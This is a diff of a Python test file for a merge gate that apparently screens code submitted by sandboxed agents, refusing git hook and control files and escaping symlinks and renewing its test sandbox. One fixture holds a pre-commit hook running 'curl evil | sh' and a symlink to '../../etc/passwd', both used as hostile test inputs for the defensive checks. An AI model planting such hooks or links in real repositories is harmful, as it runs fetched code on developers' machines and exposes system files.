@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import hashlib
-from collections.abc import Mapping
+from collections.abc import Mapping, Sequence
 from typing import Any
 
 import pytest
@@ -22,7 +22,7 @@ from coordinator.merge.gate import (
     verify_target,
 )
 from sandbox_agents.errors import InvalidInputError
-from sandbox_agents.verifiers.models import Finding, SwarmReport, VerifierReport
+from sandbox_agents.verifiers.models import Finding, Severity, SwarmReport, VerifierReport
 
 
 def sha(data: bytes) -> str:
@@ -67,26 +67,52 @@ class FakeRepo:
 
     def __init__(self) -> None:
         self.main: dict[str, bytes] = {}
+        self.main_links: dict[str, str] = {}
+        self.main_owners: dict[str, str] = {}
         self.log: list[tuple[str, str]] = []  # (commit, component)
         self.branch: dict[str, bytes] | None = None
+        self.branch_links: dict[str, str] = {}
         self.branch_component = ""
+        self.branch_written: list[str] = []
+        self.existed = False
 
-    async def init(self) -> None:
+    async def init(self) -> bool:
         self.branch = None
+        return not self.existed
 
     async def files(self) -> dict[str, str]:
         return {p: sha(b) for p, b in self.main.items()}
 
-    async def stage(self, branch: str, writes: Mapping[str, bytes], deletes: list[str], message: str) -> str:
+    async def links(self) -> dict[str, str]:
+        return dict(self.main_links)
+
+    async def owners(self) -> dict[str, str]:
+        return dict(self.main_owners)
+
+    async def stage(
+        self,
+        branch: str,
+        writes: Mapping[str, bytes],
+        deletes: Sequence[str],
+        message: str,
+        *,
+        links: Mapping[str, str] | None = None,
+    ) -> str:
         self.branch = {**self.main, **writes}
+        self.branch_links = {**self.main_links, **(links or {})}
         for path in deletes:
             self.branch.pop(path, None)
+            self.branch_links.pop(path, None)
         self.branch_component = message.rsplit("Kriptik-Component: ", 1)[1]
+        self.branch_written = [*writes, *(links or {})]
         return "staged"
 
     async def accept(self, branch: str) -> str:
         assert self.branch is not None
         self.main, self.branch = self.branch, None
+        self.main_links = self.branch_links
+        self.main_owners = {p: o for p, o in self.main_owners.items() if p in self.main or p in self.main_links}
+        self.main_owners.update({p: self.branch_component for p in self.branch_written})
         self.log.append((f"c{len(self.log) + 1}", self.branch_component))
         return await self.head()
 
@@ -104,6 +130,30 @@ class FakeRepo:
 
     async def merged(self) -> list[str]:
         return list(dict.fromkeys(c for _, c in self.log))
+
+
+class FakeCopy:
+    """The main-test copy: what it holds, how often it was renewed, what stray git files candidate code left."""
+
+    def __init__(self) -> None:
+        self.files: dict[str, bytes] = {}
+        self.links: dict[str, str] = {}
+        self.resets = 0
+        self.stray: list[str] = []
+
+    async def apply(self, writes: Mapping[str, bytes], links: Mapping[str, str], deletes: Sequence[str]) -> None:
+        self.files.update(writes)
+        self.links.update(links)
+        for path in deletes:
+            self.files.pop(path, None)
+            self.links.pop(path, None)
+
+    async def reset(self, files: Mapping[str, bytes], links: Mapping[str, str]) -> None:
+        self.files, self.links, self.stray = dict(files), dict(links), []
+        self.resets += 1
+
+    async def strays(self) -> list[str]:
+        return list(self.stray)
 
 
 class FakeServers:
@@ -135,16 +185,21 @@ class World:
         self.failing_criteria: set[str] = set()
         self.swarm_errors: list[Finding] = []
         self.checked: list[list[str]] = []
+        self.on_verify: Any = lambda: None
         self.repo = FakeRepo()
+        self.copy = FakeCopy()
         self.servers = FakeServers()
         self.events = FakeEvents()
-        self.core = MergeGateCore(CONTRACT, self.repo, self.fetch, self.verify, self.satisfy, self.servers, self.events)
+        self.core = MergeGateCore(
+            CONTRACT, self.repo, self.fetch, self.verify, self.satisfy, self.servers, self.events, copy=self.copy
+        )
 
     async def fetch(self, request: MergeRequest, path: str) -> bytes:
         await asyncio.sleep(0)
         return self.slots[request.slot][path]
 
     async def verify(self, target: Any) -> SwarmReport:
+        self.on_verify()
         report = VerifierReport(
             verifier="error_checker", passed=not self.swarm_errors, score=1.0, findings=self.swarm_errors
         )
@@ -158,10 +213,13 @@ class World:
         ]
         return SatisfactionReport(contract_sha256="0" * 64, results=results)
 
-    def request(self, component: str, files: dict[str, bytes], slot: str | None = None) -> MergeRequest:
+    def request(
+        self, component: str, files: dict[str, bytes], slot: str | None = None, links: dict[str, str] | None = None
+    ) -> MergeRequest:
         slot = slot or component
         self.slots[slot] = files
-        return MergeRequest(build_id="b1", component=component, slot=slot, files={p: sha(b) for p, b in files.items()})
+        files_sha = {p: sha(b) for p, b in files.items()}
+        return MergeRequest(build_id="b1", component=component, slot=slot, files=files_sha, links=links or {})
 
 
 async def test_components_merge_in_dependency_order_whatever_the_submission_order() -> None:
@@ -277,3 +335,113 @@ def test_verify_target_and_criteria_selection() -> None:
     sub = criteria_for(CONTRACT, ["db"])
     assert sub is not None and [c.id for c in sub.success_criteria] == ["db-ok"]
     assert criteria_for(CONTRACT, []) is None
+
+
+async def test_refused_paths_are_left_out_named_in_findings_and_the_rest_merges() -> None:
+    world = World()
+    await world.core.admit(world.request("db", {"db/schema.sql": b"v1"}))
+    files = {
+        "api/server.py": b"ok",
+        ".git/hooks/pre-commit": b"#!/bin/sh\ncurl evil | sh",
+        ".git/refs/heads/main": b"0" * 40,
+        ".gitattributes": b"* export-ignore\n",
+        ".gitmodules": b"[submodule]",
+    }
+    result = await world.core.admit(world.request("api", files, links={"api/passwd": "../../etc/passwd"}))
+    assert result.accepted and result.changed == ["api/server.py"]
+    assert world.repo.main == {"db/schema.sql": b"v1", "api/server.py": b"ok"} and world.repo.main_links == {}
+    named = {f.file: f.rule for f in result.findings}
+    assert named == {
+        ".git/hooks/pre-commit": "merge.git_metadata",
+        ".git/refs/heads/main": "merge.git_metadata",
+        ".gitattributes": "merge.git_control",
+        ".gitmodules": "merge.git_control",
+        "api/passwd": "merge.symlink",
+    }
+    assert all(f.severity == Severity.WARNING for f in result.findings)
+    assert "refused 5 path(s)" in result.reason and world.events.findings["api"] == []
+
+
+async def test_a_request_of_only_git_files_leaves_mains_tree_as_it_was() -> None:
+    world = World()
+    await world.core.admit(world.request("db", {"db/schema.sql": b"v1"}))
+    tree = await world.core.tree_hash()
+    files = {".gitattributes": b"* export-ignore\n", ".git/refs/heads/main": b"f" * 40, ".git/config": b"[core]"}
+    result = await world.core.admit(world.request("api", files))
+    assert await world.core.tree_hash() == tree == result.tree_hash and result.changed == []
+    assert sorted(f.file or "" for f in result.findings) == sorted(files)
+
+
+async def test_a_symlink_to_the_components_own_file_is_merged() -> None:
+    world = World()
+    result = await world.core.admit(
+        world.request("db", {"db/schema.sql": b"v1"}, links={"db/current.sql": "schema.sql"})
+    )
+    assert result.accepted and result.findings == [] and world.repo.main_links == {"db/current.sql": "schema.sql"}
+    assert world.copy.links == {"db/current.sql": "schema.sql"}
+
+
+async def test_a_rejection_renews_the_main_test_sandbox_with_main_and_serves_the_merged_components_again() -> None:
+    world = World()
+    await world.core.admit(world.request("db", {"db/schema.sql": b"v1"}))
+    await world.core.admit(world.request("api", {"api/server.py": b"v1"}))
+    assert world.copy.resets == 0 and world.copy.files == world.repo.main
+    world.failing_criteria = {"web-ok"}
+    result = await world.core.admit(world.request("web", {"web/index.html": b"<h1>broken</h1>"}))
+    assert not result.accepted
+    assert world.copy.resets == 1 and world.copy.files == world.repo.main  # nothing of web's is left
+    assert world.servers.started[-2:] == [["api", "web"], ["api"]]  # checked with web, then main served again
+
+
+async def test_a_stale_request_leaves_the_main_test_sandbox_alone() -> None:
+    world = World()
+    request = world.request("db", {"db/schema.sql": b"v1"})
+    world.slots["db"]["db/schema.sql"] = b"changed"
+    assert not (await world.core.admit(request)).accepted
+    assert world.copy.resets == 0 and world.copy.files == {}
+
+
+async def test_an_attempt_that_fails_midway_discards_the_branch_and_renews_the_sandbox() -> None:
+    world = World()
+
+    def boom() -> None:
+        raise RuntimeError("swarm died")
+
+    world.on_verify = boom
+    with pytest.raises(RuntimeError, match="swarm died"):
+        await world.core.admit(world.request("db", {"db/schema.sql": b"v1"}))
+    assert world.repo.main == {} and world.repo.branch is None and world.copy.resets == 1
+    assert world.copy.files == {}
+
+
+async def test_a_restarted_gate_renews_the_main_test_sandbox_before_anything_else() -> None:
+    world = World()
+    await world.core.admit(world.request("db", {"db/schema.sql": b"v1"}))
+    await world.core.admit(world.request("api", {"api/server.py": b"v1"}))
+    world.repo.existed = True
+    restarted = MergeGateCore(
+        CONTRACT, world.repo, world.fetch, world.verify, world.satisfy, world.servers, world.events, copy=world.copy
+    )
+    await restarted.start()
+    assert restarted.merged() == ["db", "api"]
+    assert world.copy.resets == 1 and world.copy.files == world.repo.main
+    assert world.servers.started[-1] == ["api"]
+
+
+async def test_git_files_candidate_code_writes_in_the_sandbox_are_named_and_the_sandbox_renewed_next() -> None:
+    world = World()
+
+    def tamper() -> None:
+        world.copy.stray = [".git/hooks/pre-commit", ".gitattributes"]
+
+    world.on_verify = tamper
+    result = await world.core.admit(world.request("db", {"db/schema.sql": b"v1"}))
+    assert result.accepted and world.repo.main == {"db/schema.sql": b"v1"}
+    assert [(f.file, f.rule) for f in result.findings] == [
+        (".git/hooks/pre-commit", "merge.sandbox_git_write"),
+        (".gitattributes", "merge.sandbox_git_write"),
+    ]
+    world.on_verify = lambda: None
+    assert world.copy.resets == 0
+    assert (await world.core.admit(world.request("api", {"api/server.py": b"v1"}))).accepted
+    assert world.copy.resets == 1 and world.copy.stray == []
